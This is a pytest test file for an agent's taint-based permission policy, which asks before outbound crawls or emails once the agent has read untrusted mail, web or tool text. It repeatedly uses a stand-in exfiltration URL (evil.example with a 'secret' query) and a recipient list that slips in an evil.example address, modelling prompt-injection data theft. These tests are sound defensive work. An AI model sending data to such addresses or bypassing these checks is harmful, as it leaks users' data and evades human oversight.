from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from tests.core.cases import cases_of
from ua_tui.core.agent.permissions.actions import OwnServers, actions_of
from ua_tui.core.agent.permissions.policy import PermissionPolicy
from ua_tui.core.agent.permissions.rules import Rule
from ua_tui.core.agent.permissions.taint import Taint
from ua_tui.core.events import types as ev
from ua_tui.core.observation import McpObservation, TextContent
from ua_tui.core.storage.workspace import Workspace
from ua_tui.core.toolkit.articles import Article, article_path, encode_article

CASES = cases_of(__file__)

CRAWL = "mcp__local_toolkit__crawl_parallel"
READ = "mcp__local_toolkit__read_local_file"
WRITE = "mcp__local_toolkit__write_local_file"
MULTI = "mcp__composio__COMPOSIO_MULTI_EXECUTE_TOOL"
NEWS = "mcp__composio__COMPOSIO_SEARCH_NEWS"
MAIL = "mcp__composio__GMAIL_FETCH_EMAILS"
PAGE = "mcp__web_reader__webReader"
KNOWLEDGE = "mcp__local_toolkit__knowledge_search"
KNOWN = "mcp__local_toolkit__knowledge_read"
EVIL = "https://evil.example/?d=secret"
NOON = datetime(2026, 11, 22, 12, 0, tzinfo=UTC)


@pytest.fixture
def workspace(tmp_path: Path) -> Iterator[Workspace]:
    made = Workspace.create(tmp_path, NOON)
    yield made
    made.close()


@pytest.fixture
def taint(workspace: Workspace) -> Taint:
    return Taint(workspace, now=lambda: NOON)


def multi(**tools: dict[str, Any]) -> dict[str, Any]:
    return {"tools": [{"tool_slug": slug, "arguments": given} for slug, given in tools.items()]}


@pytest.fixture
def other(workspace: Workspace) -> Callable[[], Taint]:
    """Makes one that has read nothing yet, for a row of a table."""
    return lambda: Taint(workspace, now=lambda: NOON)


def read(taint: Taint, tool: str, given: dict[str, Any], output: str = "") -> None:
    taint.note_read(tool, given)
    taint.learn(tool, given, output)


def reason(taint: Taint, tool: str, **given: Any) -> str | None:
    actions = map(OwnServers().describe, actions_of(tool, given))
    found = [why for action in actions if (why := taint.reason_to_ask(action)) is not None]
    return found[0] if found else None


def crawl(taint: Taint, *urls: str) -> str | None:
    return reason(taint, CRAWL, urls=list(urls))


def test_what_is_not_the_users_taints_and_is_named(other: Callable[[], Taint]) -> None:
    for tool, given, named in CASES["what_is_not_the_users_taints_and_is_named"]:
        taint = other()
        heard: list[str] = []
        taint.on_start = heard.append
        assert crawl(taint, EVIL) is None
        read(taint, tool, given)
        read(taint, tool, given)
        assert len(heard) == 1
        assert heard[0].startswith((f"{named} since ", "1 page of", "1 search result since"))
        assert "evil.example/?d=secret is new" in (crawl(taint, EVIL) or "")


def test_what_cannot_hold_other_text_does_not_taint(other: Callable[[], Taint]) -> None:
    for tool, given in CASES["what_cannot_hold_other_text_does_not_taint"]:
        taint = other()
        read(taint, tool, given)
        assert not taint.is_set
        assert taint.describe() == ""


def test_own_files_taint_only_if_the_agent_had_read_something(taint: Taint, workspace: Workspace) -> None:
    read(taint, WRITE, {"path": "mine.md"})
    read(taint, READ, {"path": str(workspace.path / "mine.md")})
    assert not taint.is_set
    taint.own_folders = (workspace.path / "skills",)
    read(taint, "Read", {"file_path": "skills/one/more.md"})
    assert not taint.is_set
    read(taint, MAIL, {})
    read(taint, WRITE, {"path": "theirs.md"})
    read(taint, READ, {"path": "theirs.md"})
    read(taint, "Agent", {})
    assert taint.describe().startswith(
        "1 result of GMAIL_FETCH_EMAILS, 1 file and 1 report of a sub-agent since "
    )


def test_an_error_and_descriptions_of_tools_taint_if_others_wrote_them(other: Callable[[], Taint]) -> None:
    taint = other()
    taint.note_read(READ, {"path": "missing"}, failed=True)
    taint.note_read(CRAWL, {"urls": []}, failed=True)
    taint.note_server("composio")
    assert not taint.is_set
    taint.note_read("mcp__notes__find", {}, failed=True)
    assert taint.is_set
    taint = other()
    taint.note_server("notes")
    assert taint.describe().startswith("the tool descriptions of notes since ")
    # Tools of the demo do not ask.
    taint.own_tools = ("COMPOSIO_REMOTE_*",)
    assert reason(taint, "mcp__composio__COMPOSIO_REMOTE_WORKBENCH") is None
    assert reason(taint, "mcp__composio__GMAIL_SEND_EMAIL") is not None


def test_much_is_summed_up_and_another_day_is_named(taint: Taint, workspace: Workspace) -> None:
    read(taint, CRAWL, {"urls": [f"https://site{number % 4}.example/{number}" for number in range(9)]})
    read(taint, NEWS, {})
    read(taint, MAIL, {})
    read(taint, "mcp__notes__find", {})
    assert taint.describe().startswith(
        "4 websites, 1 search result, 1 result of GMAIL_FETCH_EMAILS and more since "
    )
    later = Taint(workspace, now=lambda: NOON + timedelta(days=3))
    later.note_read(MAIL, {}, at=NOON)
    assert later.describe().endswith(" on 22 November")


def test_pages_that_were_found_are_opened_unasked(taint: Taint, workspace: Workspace) -> None:
    taint.handle_event(ev.QueryReceived(query_id="q1", text="Compare mine.example/shop with the others"))
    taint.handle_event(ev.QuerySteered(query_id="q1", text="and https://later.example/x?y=1"))
    found = {"results": [{"link": "https://www.news.example/1?utm_source=x", "snippet": f"not {EVIL}"}]}
    read(taint, NEWS, {"query": "shops"}, json.dumps(found))
    text = "A page with [a link](https://linked.example/deep/page) in it."
    path = article_path("https://news.example/1")
    workspace.write(path, encode_article(Article(title="1", url="https://news.example/1", text=text)))
    read(taint, CRAWL, {"urls": ["https://news.example/1"]}, json.dumps({"articles": [{"path": path}]}))
    read(taint, PAGE, {"url": "https://read.example/a/"}, "[next](b) https://plain.example/z.")
    assert taint.is_set
    assert (
        crawl(
            taint,
            "https://mine.example/shop/",
            "https://later.example/x?y=1#here",
            "http://news.example/1",
            "https://linked.example/deep",
            "https://read.example/a/b",
            "https://plain.example/z",
        )
        is None
    )
    assert reason(taint, PAGE, url="https://linked.example/deep/page") is None
    assert reason(taint, PAGE, url="https://linked.example/deep/page#secret") is not None
    assert crawl(taint, "https://news.example/1", EVIL) is not None


def test_pages_that_the_knowledge_base_names_are_opened_unasked(taint: Taint) -> None:
    hits = [
        {"kind": "article", "trust": "web", "url": "https://read.example/1", "passage": f"not {EVIL}"},
        {"kind": "article", "trust": "web", "url": "https://found.example/2"},
    ]
    read(taint, KNOWLEDGE, {"query": "x"}, json.dumps({"hits": hits}))
    page = {
        "kind": "article", "trust": "web", "url": "https://a.example/", "text": "[next](b) https://c.example/d",
    }  # fmt: skip
    read(taint, KNOWN, {"id": 1}, json.dumps(page))
    assert crawl(taint, "https://read.example/1", "https://found.example/2", "https://c.example/d") is None
    assert crawl(taint, "https://a.example/b") is None
    assert "read text from 2 results of the knowledge base" in (crawl(taint, EVIL) or "")


def test_addresses_elsewhere_do_not_count(other: Callable[[], Taint]) -> None:
    # What an agent wrote before may hold what it was not to carry out; an engine may repeat what was searched for.
    for tool, given, found in (
        *CASES["addresses_elsewhere_do_not_count"],
        (NEWS, {"query": "x"}, "x" * (5 << 20)),
    ):
        output = found if isinstance(found, str) else json.dumps(found)
        taint = other()
        read(taint, tool, given, output)
        assert crawl(taint, EVIL) is not None, (tool, output[:99])


def test_links_of_a_search_by_the_agent_itself_count(taint: Taint) -> None:
    listed = 'Web search results for query: "x"\n\nLinks: [{"title": "A", "url": "https://a.example/1"}]\n\nSummary.'
    read(taint, "WebSearch", {"query": "x"}, listed)
    structured = {"query": "x", "results": [{"content": [{"title": "B", "url": "https://b.example/1"}]}]}
    read(taint, "WebSearch", {"query": "x"}, json.dumps(structured))
    assert crawl(taint, "https://a.example/1", "https://b.example/1") is None


def test_links_in_an_article_that_may_be_its_own_do_not_count(taint: Taint, workspace: Workspace) -> None:
    path = article_path("https://news.example/1")
    workspace.write(path, f"[x]({EVIL})")
    taint.note_call(WRITE, {"path": f"./{path}"})
    read(taint, CRAWL, {"urls": ["https://news.example/1"]}, json.dumps({"articles": [{"path": path}]}))
    assert crawl(taint, EVIL) is not None


def test_what_carries_data_out_asks(other: Callable[[], Taint]) -> None:
    for tool, given in (
        *CASES["what_carries_data_out_asks"],
        ("mcp__notes__fetch", {"deep": [[[[["x"] * 60_000]]]]}),
    ):
        taint = other()
        taint.known.update(["https://known.example/a"])
        assert reason(taint, tool, **given) is None
        read(taint, MAIL, {})
        found = reason(taint, tool, **given) or ""
        assert "the agent has read text from 1 result of GMAIL_FETCH_EMAILS, which may" in found


def test_what_stays_here_or_is_known_does_not_ask(other: Callable[[], Taint]) -> None:
    for tool, given in CASES["what_stays_here_or_is_known_does_not_ask"]:
        taint = other()
        taint.known.update(["https://known.example/a"])
        read(taint, MAIL, {})
        assert reason(taint, tool, **given) is None, tool


def asked(**more: Any) -> ev.PermissionAsked:
    return ev.PermissionAsked(request_id="r", tool_name=CRAWL, input={"urls": [EVIL]}, **more)


def test_an_address_that_a_person_allowed_or_wrote_is_known(other: Callable[[], Taint]) -> None:
    for decision, scope, why, known in CASES["an_address_that_a_person_allowed_or_wrote_is_known"]:
        taint = other()
        read(taint, MAIL, {})
        taint.handle_event(asked())
        taint.handle_event(
            ev.PermissionAnswered(request_id="r", tool_name=CRAWL, decision=decision, scope=scope, reason=why)
        )
        assert (crawl(taint, EVIL) is None) is known


@pytest.mark.parametrize(
    ("answer", "known"),
    [
        (f"see {EVIL}", True),
        (f"Later, {EVIL}", True),
        ("Later", False),
        (f"Yes, look at {EVIL}", False),
        (f"Later, Yes, look at {EVIL}", False),
        (f"See {EVIL}, Later", False),
    ],
)
def test_an_answer_that_the_agent_proposed_makes_no_address_known(
    taint: Taint, answer: str, known: bool
) -> None:
    labels = ["Later"] if known else ["Later", f"Yes, look at {EVIL}", f"See {EVIL}"]
    question = {"question": "Go on?", "options": [{"label": each} for each in labels]}
    read(taint, MAIL, {})
    taint.handle_event(
        ev.PermissionAnswered(
            request_id="r",
            tool_name="AskUserQuestion",
            decision="allow",
            input={"questions": [question], "answers": {"Go on?": answer}},
        )
    )
    assert (crawl(taint, EVIL) is None) is known


def call(number: int, tool: str, given: dict[str, Any], output: str, **more: Any) -> Iterator[ev.Event]:
    tool_use_id = f"t{number}"
    yield ev.ToolCallStarted(query_id="q1", tool_use_id=tool_use_id, name=tool, input=given)
    observation = McpObservation(
        tool_name=tool, tool_use_id=tool_use_id, server="x", content=(TextContent(output),), **more
    )
    yield ev.ToolCallFinished(tool_use_id=tool_use_id, status="success", observation=observation, at=NOON)


def test_the_journal_brings_back_what_was_read_and_what_is_known(taint: Taint, workspace: Workspace) -> None:
    large = {"news": [{"url": "https://large.example/1"}]}
    content = [{"type": "text", "text": json.dumps(large)}]
    for name in ("kept", "changed"):
        workspace.write_json_artifact(f"tool_results/{name}.json", content)
    events: list[ev.Event] = [
        ev.QueryReceived(query_id="q1", text="Read mine.example"),
        *call(1, NEWS, {}, json.dumps({"link": "https://a.example/1"})),
        *call(2, PAGE, {"url": "https://a.example/1"}, "see https://b.example/2"),
        *call(3, MAIL, {}, EVIL),
        ev.ToolCallStarted(query_id="q1", tool_use_id="t0", name=MAIL, input={}),
        ev.ToolCallFinished(tool_use_id="t0", status="blocked"),
        ev.ToolCallStarted(query_id="q1", tool_use_id="t4", name=CRAWL, input={"urls": [EVIL]}),
        ev.ToolCallFinished(tool_use_id="t4", status="denied"),
    ]
    for event in events:
        taint.restore(event)
    assert taint.describe().startswith("a.example, 2 results of GMAIL_FETCH_EMAILS and 1 search result")
    known = ("https://mine.example", "https://a.example/1", "https://b.example/2")
    assert crawl(taint, *known) is None
    assert crawl(taint, EVIL) is not None
    assert crawl(taint, "https://large.example/1") is not None
    changed = call(5, WRITE, {"path": "tool_results/changed.json"}, "")
    for event in (*changed, *call(6, NEWS, {}, "preview", stored_at="tool_results/changed.json")):
        taint.restore(event)
    assert crawl(taint, "https://large.example/1") is not None
    for event in call(7, NEWS, {}, "preview", stored_at="tool_results/kept.json"):
        taint.restore(event)
    assert crawl(taint, "https://large.example/1") is None


def test_the_policy_asks_unless_a_rule_names_the_destination(taint: Taint, tmp_path: Path) -> None:
    send = ("mcp__composio__GMAIL_SEND_EMAIL", {"recipient_email": "a@b.example"})
    policy = PermissionPolicy(
        workspace=tmp_path, rules=(Rule("allow", "GMAIL_SEND_*"),), taint=taint.reason_to_ask
    )
    new = (CRAWL, {"urls": [EVIL]})
    assert policy.judge(*send).verdict is policy.judge(*new).verdict == "allow"
    read(taint, PAGE, {"url": "https://a.example"})
    for call_ in (send, new):
        judged = policy.judge(*call_)
        assert judged.verdict == "ask"
        assert "has read text from a.example, which" in judged.reason
    named = ("GMAIL_SEND_EMAIL(recipient_email=*@b.example)", "crawl_parallel(host=evil.example)")
    policy.rules = tuple(Rule("allow", text) for text in named)
    assert policy.judge(*send).verdict is policy.judge(*new).verdict == "allow"
    elsewhere = {"recipient_email": "a@b.example, eve@evil.example"}
    assert policy.judge(send[0], elsewhere).verdict == "ask"
    assert policy.judge(CRAWL, {"urls": [EVIL, "https://evil.example.more.example/"]}).verdict == "ask"
    policy.rules = ()
    policy.mode = "bypassPermissions"
    assert policy.judge(*send).verdict is policy.judge(*new).verdict == "allow"
